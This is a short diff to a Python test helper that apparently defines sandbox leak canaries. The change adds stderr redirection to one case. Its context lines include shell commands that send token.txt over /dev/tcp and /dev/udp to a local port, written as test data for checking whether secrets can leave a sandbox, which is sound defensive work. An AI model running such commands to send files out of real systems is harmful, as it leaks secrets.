@@ -388,5 +388,5 @@ def _leaks() -> list[Canary]:
         ),
         _network("tcp", tcp + keep, "exec 3<>/dev/tcp/127.0.0.1/PORT && cat token.txt >&3; exec 3>&-"),
         _network("udp", udp + keep, "cat token.txt > /dev/udp/127.0.0.1/PORT"),
-        _network("abstract_unix_socket", unix + keep, local),
+        _network("abstract_unix_socket", unix + keep, f"{local} 2>/dev/null"),
     ]
